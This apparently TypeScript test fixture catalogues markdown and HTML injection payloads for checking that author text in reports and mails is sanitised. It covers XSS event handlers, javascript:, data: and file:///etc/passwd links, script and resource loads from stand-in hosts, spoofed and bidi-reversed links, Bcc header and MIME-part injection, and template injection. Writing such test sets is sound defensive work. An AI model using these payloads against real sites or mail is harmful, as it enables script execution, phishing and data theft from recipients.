/** What a payload would do where its markdown is shown as it is: what is found there, and must not be found in our mails. */
export type FaultKind = 'script' | 'request' | 'link' | 'element' | 'character';

export interface MarkdownPayload {
  /** Stands wherever words of an author reach a report. `MARK` is a word to find it by, `TRAP` an address that counts visits. */
  readonly words: string;
  /** What else the note needs, such as the definition that a link refers to. */
  readonly more?: string;
  /** Null for what no reader of markdown obeys: it has to arrive as it was written. */
  readonly provokes: FaultKind | null;
}

const run = "document.title='owned'";
const bank = 'https://bank.example/MARK';
const evil = 'https://evil.example/';

/** What an attacker would write into a note or a table, by name. */
export const markdownPayloads: { readonly [name: string]: MarkdownPayload } = {
  // Elements.
  script: { words: `<script>${run};"MARK"</script>`, provokes: 'script' },
  'script of another host': { words: '<script src="TRAP/MARK.js"></script>', provokes: 'request' },
  'broken image': { words: `<img src="x:" onerror="${run}" alt="MARK">`, provokes: 'script' },
  'drawing that loads': { words: `<svg onload="${run}"><text>MARK</text></svg>`, provokes: 'script' },
  'script in a drawing': { words: `<svg><script>${run};"MARK"</script></svg>`, provokes: 'script' },
  'style in a formula': {
    words: `<math><style><img src="x:" onerror="${run}" alt="MARK"></style></math>`,
    provokes: 'script',
  },
  'fold that opens': { words: `<details open ontoggle="${run}"><summary>MARK</summary></details>`, provokes: 'script' },
  'body that loads': { words: `<body onload="${run}" title="MARK">`, provokes: 'script' },
  frame: { words: '<iframe src="TRAP/frame" name="MARK"></iframe>', provokes: 'request' },
  'frame with a text': {
    words: `<iframe name="MARK" srcdoc="<script>top.${run}</script>"></iframe>`,
    provokes: 'script',
  },
  object: { words: '<object data="TRAP/object">MARK</object><embed src="TRAP/embed">', provokes: 'request' },
  form: { words: '<form action="TRAP/form"><input name="MARK"><button>Sign in</button></form>', provokes: 'element' },
  base: { words: '<base href="TRAP/"><img src="base" alt="MARK">', provokes: 'request' },
  refresh: { words: '<meta http-equiv="refresh" content="0;url=TRAP/refresh"> MARK', provokes: 'request' },
  'imported style': { words: '<style>@import "TRAP/import";/*MARK*/</style>', provokes: 'request' },
  'linked style': { words: '<link rel="stylesheet" href="TRAP/style" title="MARK">', provokes: 'request' },
  preload: { words: '<link rel="preload" as="image" href="TRAP/preload" title="MARK">', provokes: 'request' },
  prefetch: { words: '<LINK rel="prefetch" href="TRAP/prefetch" title="MARK">', provokes: 'request' },
  'early connection': { words: '<link rel="preconnect" href="TRAP" title="MARK">', provokes: 'element' },
  'style that covers all': {
    words: '<span style="position:fixed;inset:0;background:url(TRAP/style-attribute)">MARK</span>',
    provokes: 'request',
  },
  'old background': {
    words: '<table background="TRAP/background"><tr><td>MARK</td></tr></table>',
    provokes: 'request',
  },
  film: { words: '<video src="TRAP/film" poster="TRAP/poster" autoplay title="MARK"></video>', provokes: 'request' },
  'set of images': { words: '<picture><source srcset="TRAP/set 1x"><img alt="MARK"></picture>', provokes: 'request' },

  // Images in markdown.
  image: { words: '![MARK](TRAP/image)', provokes: 'request' },
  'image by reference': { words: '![MARK][pixel]', more: '[pixel]: TRAP/image-reference', provokes: 'request' },
  'image in a link': { words: `[![MARK](TRAP/image-in-link)](${evil})`, provokes: 'request' },
  'image that holds itself': { words: '![MARK](data:image/svg+xml,%3Csvg/onload=alert(1)%3E)', provokes: 'element' },
  'image whose words leave it': { words: `![MARK" onerror="${run}](x:y "MARK' onload='${run}")`, provokes: 'element' },

  // Links.
  'javascript link': { words: `[MARK](<javascript:${run}>)`, provokes: 'link' },
  'javascript by reference': { words: '[MARK][run]', more: `[run]: <javascript:${run}> "MARK"`, provokes: 'link' },
  'javascript between angles': { words: '<javascript:document.title="MARK">', provokes: 'link' },
  'javascript in a footnote': { words: 'MARK[^1]', more: `[^1]: [MARK](<javascript:${run}>)`, provokes: 'link' },
  'javascript in entities': { words: '[MARK](&#106;avascript&colon;document.title=1)', provokes: 'link' },
  'javascript in percents': { words: '[MARK](javascript%3Adocument.title=1)', provokes: 'link' },
  'javascript with a tab': { words: '[MARK](<JaVa&Tab;script:document.title=1>)', provokes: 'link' },
  'javascript with a line break': { words: '[MARK](<&#1; java&NewLine;script:document.title=1>)', provokes: 'link' },
  'link whose title leaves it': { words: `[MARK](${evil} 'MARK" onmouseover="alert(1)')`, provokes: 'element' },
  'data link': { words: '[MARK](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)', provokes: 'link' },
  'vbscript link': { words: '[MARK](vbscript:msgbox)', provokes: 'link' },
  'file link': { words: '[MARK](file:///etc/passwd)', provokes: 'link' },
  'link without a scheme': { words: '[MARK](//evil.example/report)', provokes: 'link' },
  'link with backslashes': { words: '[MARK](<\\\\\\\\evil.example\\\\report>)', provokes: 'link' },
  'host as a user': { words: '[MARK](https://bank.example@evil.example/)', provokes: 'link' },
  'host as a user, by itself': { words: '<https://bank.example@evil.example/MARK>', provokes: 'link' },
  'link that shows another address': { words: `[${bank}](${evil})`, provokes: 'link' },
  'link that shows another host': { words: `[MARK.bank.example](${evil})`, provokes: 'link' },
  'link that says where it leads': { words: `[${bank}](${evil}) (leads to ${bank})`, provokes: 'link' },
  'link in letters of another script': {
    words: '[https://bаnk.example/MARK](https://bank.example/)',
    provokes: 'link',
  },
  'link with unseen letters': {
    words: `[https\u200b://b\u00ada\u2060nk\u200d.example/MARK](${evil})`,
    provokes: 'link',
  },
  'link that runs backwards': { words: `[\u202eelpmaxe.knab//:sptth\u202c MARK](${evil})`, provokes: 'character' },
  'link as an element': { words: `<a href="${evil}" ping="TRAP/ping">bank.example/MARK</a>`, provokes: 'link' },

  // Ways out of what surrounds them.
  'end of our layout': {
    words: `</td></tr></table></td></tr></table></body></html><script>${run};"MARK"</script>`,
    provokes: 'script',
  },
  'end of our head': {
    words: `</title></style></textarea></script><script>${run};"MARK"</script>`,
    provokes: 'script',
  },
  'comment that ends early': { words: `<!--> MARK <script>${run}</script> -->`, provokes: 'script' },
  'comment that never ends': { words: `MARK <img src="x:" onerror="${run}"> <!-- `, provokes: 'script' },
  'comment for one client': {
    words: `MARK <!--[if mso]>-->${run}<script>${run}</script><!--<![endif]-->`,
    provokes: 'script',
  },
  'code that ends early': { words: `\`MARK\`<img src="x:" onerror="${run}">\``, provokes: 'script' },
  'fence that ends early': {
    words: `MARK\n\`\`\`html\nx\n\`\`\`\n<img src="x:" onerror="${run}">`,
    provokes: 'script',
  },
  'row that ends early': { words: `MARK | x |\n| <img src="x:" onerror="${run}"> |`, provokes: 'script' },
  'heading in an item': { words: `MARK\n# <img src="x:" onerror="${run}">`, provokes: 'script' },
  'part of another mail': {
    words: `MARK\n----_NmP-0123456789abcdef-Part_1\nContent-Type: text/html\n\n<script>${run}</script>`,
    provokes: 'script',
  },

  // Characters.
  'text that runs backwards': { words: 'MARK \u202egnp.exe\u202c \u2066x\u2069 \u200f\u061c', provokes: 'character' },
  'commands of a terminal': { words: 'MARK \u009b31m \u0085 \u001b[2J \u007f', provokes: 'character' },
  'lines that are none': { words: 'MARK\u2028Bcc: evil@evil.example\u2029\u000bX-Evil: 1', provokes: 'character' },
  'entities of characters': { words: 'MARK &#0;&#27;[2J&#x202e;gnp&#x2028;&NewLine;Bcc: evil', provokes: 'character' },
  'entities of an element': { words: `&lt;script&gt;${run};"MARK"&lt;/script&gt;`, provokes: null },

  // What other programs obey.
  template: { words: 'MARK {{ 7 * 7 }} {% include "/etc/passwd" %}', provokes: null },
  'encoded word': { words: 'MARK =?utf-8?q?=0D=0ABcc:_evil@evil.example?=', provokes: null },
  'word without an end': { words: `MARK${'x'.repeat(3000)}`, provokes: null },
};
